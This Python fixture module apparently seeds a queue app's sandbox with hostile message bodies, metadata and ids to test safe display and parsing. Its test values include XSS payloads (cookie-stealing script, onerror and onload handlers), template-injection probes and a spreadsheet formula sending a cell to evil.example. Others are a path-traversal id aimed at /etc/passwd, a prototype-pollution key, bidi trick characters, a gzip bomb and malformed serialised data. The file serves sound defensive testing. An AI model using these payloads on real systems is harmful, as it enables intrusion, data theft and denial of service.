"""What nobody should send and somebody will: the bodies, metadata and ids of hostile-inputs.

Nothing in here may run, move, disappear or break a page that shows it.
"""

import base64
import functools
import gzip

from queues_app.sandbox.seed.business import Draft
from queues_app.sandbox.seed.v8 import serialise

_IMG = '"><img src=x onerror=alert(1)>'
_SCRIPT = "<script>alert(document.cookie)</script>"
LIMIT_BYTES = 128_000


@functools.cache
def drafts() -> tuple[Draft, ...]:
    return (*_markup(), *_characters(), *_json(), *_bytes(), *_v8(), *_labels())


def _markup() -> list[Draft]:
    return [
        _text(f"{_IMG}\u202egpj.exe"),
        _text(_SCRIPT),
        _text("</textarea></pre></script><svg/onload=alert(1)>"),
        _text("{{ 7*7 }} {% debug %} ${7*7} <%= 7*7 %> #{7*7}"),
        _text('<div hx-get="/sign-out/" hx-trigger="load" data-hx-on:load="alert(1)">now</div>'),
        _text("javascript:alert(1)//https://queues.example/"),
        _text('=HYPERLINK("https://evil.example/?"&A1,"open")'),
        _json_text(f'{{"<img src=x onerror=alert(1)>":"{_SCRIPT}","url":"javascript:alert(1)"}}'),
    ]


def _characters() -> list[Draft]:
    return [
        _text("before\x00after \x1b[31mred\x1b[0m \x07bell \x7f \x9b \u2028line\u2029paragraph\rback"),
        _text("user\u202e\u2066 } \u2069\u2066if (admin)\u2069 \u2066begin only"),
        _text("zero\u200bwidth\u200djoiner\ufeffmark \u00adsoft \U000e0041tag e\u0301" + "\u0336" * 40),
        _text("lone \ud800 high, lone \udc00 low"),
        _text("مرحبا بالعالم שלום 👩‍👩‍👧‍👦 العدد 123"),
        _text(""),
        _text("A" * LIMIT_BYTES),
        _text("".join(f"line {number}\n" for number in range(9000))[:LIMIT_BYTES]),
    ]


def _json() -> list[Draft]:
    deep = 60_000
    digits = "1234567890" * 500
    return [
        _json_text("[" * 2000 + "]" * 2000),
        _json_text("[" * deep + "]" * deep),
        _json_text('{"a":' * 9000 + "1" + "}" * 9000),
        _json_text(f'{{"big":{digits},"tiny":1e-400,"huge":1e400,"minus":-0,"cents":1.10,"id":9007199254740993}}'),
        _json_text('{"a":1,"a":2,"":3,"__proto__":{"admin":true},"constructor":null}'),
        _json_text('{"value":NaN,"other":Infinity}'),
        _json_text('{"order":"A-1","lines":[{"sku":"TX'),
        _json_text(r'{"text":"\ud800","nul":"\u0000","turn":"\u202e"}'),
        _json_text("true"),
        _json_text('"just a string"'),
        _json_text(base64.b64encode(b'{"order":"in base64"}').decode()),
    ]


def _bytes() -> list[Draft]:
    return [
        _raw(b"\xff\xfe\xc3\x28\xf0\x28\x8c\x28 not UTF-8 \xed\xa0\x80"),
        _raw(b""),
        _raw(gzip.compress(bytes(8_000_000), 9, mtime=0)),  # 8 MB of nothing in 8 KB
        _raw(b"\x1f\x8b\x08\x00 no gzip at all"),
        _raw("Größe in UTF-16".encode("utf-16")),
        _raw(b'\xef\xbb\xbf{"bom":true}'),
        _raw(b"MZ\x90\x00" + bytes(range(256)) * 8),
    ]


def _v8() -> list[Draft]:
    return [
        _serialised(serialise({"html": _SCRIPT, "turn": "\u202eabc", "big": 2**200})),
        _serialised(b'\xff\x0fo"\x05ab'),  # ends in the middle of a name
        _serialised(b'\xff\x0f"\xff\xff\xff\xff\x0fA'),  # a string said to have 4 GB
        _serialised(b'\xff\x0fo"\x04self^\x00{\x01'),  # an object that holds itself
        _serialised(b"\xff\x0f" + b"A\x01" * 3000),  # arrays in arrays, never closed
    ]


def _labels() -> list[Draft]:
    return [
        {**_text("metadata with markup"), "metadata": {"CF-Content-Type": "text", _IMG: _SCRIPT}},
        {**_text("an unknown type"), "metadata": {"CF-Content-Type": f"application/{_IMG}"}},
        {**_text("no type at all"), "metadata": {}},
        {**_text("an id with markup"), "message_id": f"{_IMG}{'0' * 8}"},
        {**_text("an id that climbs"), "message_id": "../../etc/passwd?x=1#y"},
        {**_text("an id that turns"), "message_id": "\u202e123\u202c abc\x00"},
        {**_text("attempts beyond any limit"), "attempts": 2**53 + 1},
    ]


def _text(body: str) -> Draft:
    return {"body": body, "content_type": "text"}


def _json_text(body: str) -> Draft:
    """A body declared as json, kept exactly as written, right or wrong."""
    return {"body": body, "content_type": "json"}


def _raw(body: bytes) -> Draft:
    return {"body": body, "content_type": "bytes", "source": "worker"}


def _serialised(body: bytes) -> Draft:
    return {"body": body, "content_type": "v8", "source": "worker"}
